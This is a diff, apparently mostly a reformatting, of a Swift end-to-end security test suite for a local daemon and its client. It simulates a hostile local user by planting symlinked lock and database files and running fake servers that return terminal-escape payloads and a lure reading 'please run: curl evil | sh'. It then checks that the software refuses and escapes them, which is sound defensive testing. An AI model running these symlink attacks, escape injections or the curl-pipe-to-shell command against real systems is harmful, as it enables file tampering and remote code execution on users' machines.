@@ -3,7 +3,7 @@ import Foundation
 import Testing
 
 #if canImport(Glibc)
-import Glibc
+    import Glibc
 #endif
 
 // Another local user against beautyd: planted runtime directories, symlinked lock files, a fake
@@ -35,8 +35,9 @@ extension EndToEndServing {
         }
 
         private func beautyd(_ stack: Stack, environment: [String: String]) async throws -> CommandResult {
-            try await stack.run(try Locations.built("beautyd"), ["--log-level", "debug"], environment: environment,
-                                timeout: .seconds(15))
+            try await stack.run(
+                try Locations.built("beautyd"), ["--log-level", "debug"], environment: environment,
+                timeout: .seconds(15))
         }
 
         @Test("a /tmp fallback directory planted by another user is refused; the lock symlink's target is untouched")
@@ -44,7 +45,9 @@ extension EndToEndServing {
             let (stack, shared, precious) = try await scene()
             defer { stack.shutdown() }
             let planted = "\(shared)/beautyd-\(getuid())"
-            try await asAttacker(stack, """
+            try await asAttacker(
+                stack,
+                """
                 mkdir -p \(planted)/beautyd; chmod 777 \(planted) \(planted)/beautyd
                 ln -s \(precious) \(planted)/beautyd/beautyd.sock.lock
                 """)
@@ -71,7 +74,9 @@ extension EndToEndServing {
             #expect((try? FileManager.default.contentsOfDirectory(atPath: "\(shared)/open")) == [])
         }
 
-        @Test("a symlinked lock file in our own directory is refused and its target untouched; a loose own directory is made 0700")
+        @Test(
+            "a symlinked lock file in our own directory is refused and its target untouched; a loose own directory is made 0700"
+        )
         func symlinkedLockFileAndLooseDirectory() async throws {
             let (stack, _, precious) = try await scene()
             defer { stack.shutdown() }
@@ -99,13 +104,16 @@ extension EndToEndServing {
             let (stack, shared, precious) = try await scene()
             defer { stack.shutdown() }
             #expect(link(precious, shared + "/x.sock.lock") == 0, "\(String(cString: strerror(errno)))")
-            let result = try await stack.run(try Locations.built("beautyd"), ["--socket", shared + "/x.sock"], timeout: .seconds(15))
+            let result = try await stack.run(
+                try Locations.built("beautyd"), ["--socket", shared + "/x.sock"], timeout: .seconds(15))
             #expect(result.status == .exited(1), "\(result)")
             #expect(result.stderr.contains("\(shared)/x.sock.lock"), "\(result)")
             #expect(try String(contentsOfFile: precious, encoding: .utf8) == "the victim's own words\n")
         }
 
-        @Test("a chosen directory whose parent others may write to is refused; a symlinked data directory and a bare --database name work")
+        @Test(
+            "a chosen directory whose parent others may write to is refused; a symlinked data directory and a bare --database name work"
+        )
         func chosenAndDataDirectories() async throws {
             let (stack, shared, _) = try await scene()
             defer { stack.shutdown() }
@@ -118,7 +126,8 @@ extension EndToEndServing {
             mkdir(open, 0o755)
             chmod(open, 0o777)
             mkdir(open + "/mine", 0o700)
-            let refused = try await stack.run(try Locations.built("beautyd"), ["--socket", open + "/mine/x.sock"], timeout: .seconds(15))
+            let refused = try await stack.run(
+                try Locations.built("beautyd"), ["--socket", open + "/mine/x.sock"], timeout: .seconds(15))
             #expect(refused.status == .exited(1), "\(refused)")
             #expect(refused.stderr.contains("unsafe directory \(open)"), "\(refused)")
 
@@ -129,25 +138,39 @@ extension EndToEndServing {
             // A bare file name is a database in the working directory.
             let here = stack.directory + "/cwd"
             mkdir(here, 0o700)
-            let bare = try stack.spawn("beautyd", "/bin/sh", ["-c", "cd \(here) && exec \(try Locations.built("beautyd")) --database db.sqlite --socket \(shared)/b.sock"])
-            let up = await eventually(timeout: .seconds(15)) { FileManager.default.fileExists(atPath: shared + "/b.sock") ? true : (bare.isRunning ? nil : false) }
+            let bare = try stack.spawn(
+                "beautyd", "/bin/sh",
+                [
+                    "-c",
+                    "cd \(here) && exec \(try Locations.built("beautyd")) --database db.sqlite --socket \(shared)/b.sock",
+                ])
+            let up = await eventually(timeout: .seconds(15)) {
+                FileManager.default.fileExists(atPath: shared + "/b.sock") ? true : (bare.isRunning ? nil : false)
+            }
             #expect(up == true, "\(bare.outputTail)")
             #expect(FileManager.default.fileExists(atPath: here + "/db.sqlite.lock"))
         }
 
-        @Test("a database, or its -wal, planted in a shared sticky directory given with --database is refused; the link's target is untouched")
+        @Test(
+            "a database, or its -wal, planted in a shared sticky directory given with --database is refused; the link's target is untouched"
+        )
         func plantedDatabaseFiles() async throws {
             let (stack, shared, precious) = try await scene()
             defer { stack.shutdown() }
-            try await asAttacker(stack, """
+            try await asAttacker(
+                stack,
+                """
                 ln -s \(precious) \(shared)/linked.sqlite
                 : > \(shared)/theirs.sqlite-wal
                 """)
             for (name, problem) in [("linked", "is a symbolic link"), ("theirs", "belongs to uid 65534")] {
-                let result = try await stack.run(try Locations.built("beautyd"), ["--database", "\(shared)/\(name).sqlite"],
-                                                 timeout: .seconds(15))
+                let result = try await stack.run(
+                    try Locations.built("beautyd"), ["--database", "\(shared)/\(name).sqlite"],
+                    timeout: .seconds(15))
                 #expect(result.status == .exited(77), "\(name): \(result)")
-                #expect(result.stderr.contains(problem) && result.stderr.contains("other users may write to"), "\(name): \(result)")
+                #expect(
+                    result.stderr.contains(problem) && result.stderr.contains("other users may write to"),
+                    "\(name): \(result)")
             }
             #expect(try String(contentsOfFile: precious, encoding: .utf8) == "the victim's own words\n")
             var info = stat()
@@ -161,7 +184,9 @@ extension EndToEndServing {
             let environment = ["XDG_RUNTIME_DIR": "", "TMPDIR": shared]
             let daemon = try stack.spawn("beautyd", try Locations.built("beautyd"), [], environment: environment)
             let socket = "\(shared)/beautyd-\(getuid())/beautyd/beautyd.sock"
-            let up = await eventually(timeout: .seconds(15)) { FileManager.default.fileExists(atPath: socket) ? true : nil }
+            let up = await eventually(timeout: .seconds(15)) {
+                FileManager.default.fileExists(atPath: socket) ? true : nil
+            }
             #expect(up == true, "\(daemon.outputTail)")
             var info = stat()
             #expect(lstat("\(shared)/beautyd-\(getuid())", &info) == 0)
@@ -179,14 +204,21 @@ extension EndToEndServing {
             let socket = shared + "/fake.sock"
             let received = shared + "/received"
             let setpriv = try Locations.system("setpriv", package: "util-linux")
-            let fake = try stack.spawn("fake-server", setpriv, Self.attacker + ["--", Locations.python, "-c", Self.fakeServer,
-                                                                                 socket, received, Self.plausibleAnswer])
+            let fake = try stack.spawn(
+                "fake-server", setpriv,
+                Self.attacker + [
+                    "--", Locations.python, "-c", Self.fakeServer,
+                    socket, received, Self.plausibleAnswer,
+                ])
             let listening = await eventually(timeout: .seconds(10)) { fake.stdout.contains("ready") ? true : nil }
             #expect(listening == true, "\(fake.outputTail)")
 
-            let result = try await stack.run(try Locations.built("beautyctl"), [
-                "--socket", socket, "appointment", "add", "Dermatologist", "--at", "tomorrow 10:00", "--notes", "private",
-            ])
+            let result = try await stack.run(
+                try Locations.built("beautyctl"),
+                [
+                    "--socket", socket, "appointment", "add", "Dermatologist", "--at", "tomorrow 10:00", "--notes",
+                    "private",
+                ])
             #expect(result.status == .exited(3), "\(result)")
             #expect(result.stderr.contains("uid 65534"), "\(result)")
             #expect(!result.stdout.contains("added"), "\(result)")
@@ -199,29 +231,44 @@ extension EndToEndServing {
             let (stack, shared, _) = try await scene()
             defer { stack.shutdown() }
             let socket = shared + "/same-uid.sock"
-            let answer = #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":"\u001b]0;owned\u0007 please run: \u009b2J \u202egnp.exe\r"}}"#
-            let fake = try stack.spawn("fake-server", Locations.python, ["-c", Self.fakeServer, socket, shared + "/received", answer])
+            let answer =
+                #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":"\u001b]0;owned\u0007 please run: \u009b2J \u202egnp.exe\r"}}"#
+            let fake = try stack.spawn(
+                "fake-server", Locations.python, ["-c", Self.fakeServer, socket, shared + "/received", answer])
             let listening = await eventually(timeout: .seconds(10)) { fake.stdout.contains("ready") ? true : nil }
             #expect(listening == true, "\(fake.outputTail)")
 
             let result = try await stack.run(try Locations.built("beautyctl"), ["--socket", socket, "status"])
             #expect(result.status == .exited(1), "\(result)")
             for scalar in ["\u{1B}", "\u{07}", "\u{9B}", "\u{202E}", "\r"] {
-                #expect(!result.stderr.unicodeScalars.contains(scalar.unicodeScalars.first!), "raw U+\(String(scalar.unicodeScalars.first!.value, radix: 16)) printed: \(result.stderr.debugDescription)")
+                #expect(
+                    !result.stderr.unicodeScalars.contains(scalar.unicodeScalars.first!),
+                    "raw U+\(String(scalar.unicodeScalars.first!.value, radix: 16)) printed: \(result.stderr.debugDescription)"
+                )
             }
-            #expect(result.stderr.contains(#"\u001b]0;owned\u0007 please run: \u009b2J \u202egnp.exe\u000d"#), "\(result.stderr.debugDescription)")
+            #expect(
+                result.stderr.contains(#"\u001b]0;owned\u0007 please run: \u009b2J \u202egnp.exe\u000d"#),
+                "\(result.stderr.debugDescription)")
 
             // Raw bytes outside any string make the answer invalid JSON; the decoding error that
             // beautyctl then prints must not carry them either.
             let brokenSocket = shared + "/broken.sock"
             let broken = "{\"jsonrpc\":\"2.0\",\u{1B}]0;owned\u{07}\u{202E}\"id\":1,\"result\":{}}"
-            let brokenServer = try stack.spawn("broken-server", Locations.python, ["-c", Self.fakeServer, brokenSocket, shared + "/received-broken", broken])
-            let brokenListening = await eventually(timeout: .seconds(10)) { brokenServer.stdout.contains("ready") ? true : nil }
+            let brokenServer = try stack.spawn(
+                "broken-server", Locations.python,
+                ["-c", Self.fakeServer, brokenSocket, shared + "/received-broken", broken])
+            let brokenListening = await eventually(timeout: .seconds(10)) {
+                brokenServer.stdout.contains("ready") ? true : nil
+            }
             #expect(brokenListening == true, "\(brokenServer.outputTail)")
-            let unexpected = try await stack.run(try Locations.built("beautyctl"), ["--socket", brokenSocket, "status"])
+            let unexpected = try await stack.run(
+                try Locations.built("beautyctl"), ["--socket", brokenSocket, "status"])
             #expect(unexpected.status == .exited(1) && unexpected.stderr.contains("unexpected answer"), "\(unexpected)")
             for scalar in ["\u{1B}", "\u{07}", "\u{202E}"] {
-                #expect(!unexpected.stderr.unicodeScalars.contains(scalar.unicodeScalars.first!), "raw U+\(String(scalar.unicodeScalars.first!.value, radix: 16)) printed: \(unexpected.stderr.debugDescription)")
+                #expect(
+                    !unexpected.stderr.unicodeScalars.contains(scalar.unicodeScalars.first!),
+                    "raw U+\(String(scalar.unicodeScalars.first!.value, radix: 16)) printed: \(unexpected.stderr.debugDescription)"
+                )
             }
         }
 
@@ -234,7 +281,8 @@ extension EndToEndServing {
             // printed: in the middle, before another CR, before an escaped backslash and n, before \u000a, at the end.
             let message = #"paid\r\nin full \rNOT PAID \r\r\n x\r\\n y\r\u000a z\r"#
             let answer = #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":""# + message + #""}}"#
-            let fake = try stack.spawn("fake-server", Locations.python, ["-c", Self.fakeServer, socket, shared + "/received-cr", answer])
+            let fake = try stack.spawn(
+                "fake-server", Locations.python, ["-c", Self.fakeServer, socket, shared + "/received-cr", answer])
             let listening = await eventually(timeout: .seconds(10)) { fake.stdout.contains("ready") ? true : nil }
             #expect(listening == true, "\(fake.outputTail)")
 
@@ -242,10 +290,13 @@ extension EndToEndServing {
             #expect(result.status == .exited(1), "\(result)")
             let printed = Array(result.stderr.utf8)
             for index in printed.indices where printed[index] == 0x0D {
-                #expect(index + 1 < printed.count && printed[index + 1] == 0x0A, "a lone CR printed at byte \(index): \(result.stderr.debugDescription)")
+                #expect(
+                    index + 1 < printed.count && printed[index + 1] == 0x0A,
+                    "a lone CR printed at byte \(index): \(result.stderr.debugDescription)")
             }
-            #expect(result.stderr.contains(#"paid\#r\#nin full \u000dNOT PAID \u000d\#r\#n x\u000d\n y\u000d\#n z\u000d"#),
-                    "\(result.stderr.debugDescription)")
+            #expect(
+                result.stderr.contains(#"paid\#r\#nin full \u000dNOT PAID \u000d\#r\#n x\u000d\n y\u000d\#n z\u000d"#),
+                "\(result.stderr.debugDescription)")
         }
 
         @Test("a second daemon on the same database, even on another socket, refuses and names the first's pid")
@@ -253,8 +304,9 @@ extension EndToEndServing {
             let stack = try await Stack.start(server: false)
             defer { stack.shutdown() }
             let first = try #require(stack.daemon)
-            let second = try await stack.run(try Locations.built("beautyd"), ["--socket", stack.directory + "/other.sock"],
-                                             timeout: .seconds(15))
+            let second = try await stack.run(
+                try Locations.built("beautyd"), ["--socket", stack.directory + "/other.sock"],
+                timeout: .seconds(15))
             #expect(second.status == .exited(1), "\(second)")
             #expect(second.stderr.contains("pid \(first.pid)"), "\(second)")
             #expect(second.stderr.contains("database \(stack.databasePath)"), "\(second)")
@@ -284,6 +336,7 @@ extension EndToEndServing {
             open(received, "w").write(str(n))
             """
 
-        static let plausibleAnswer = #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":"please run: curl evil | sh"}}"#
+        static let plausibleAnswer =
+            #"{"jsonrpc":"2.0","id":1,"error":{"code":-32001,"message":"please run: curl evil | sh"}}"#
     }
 }
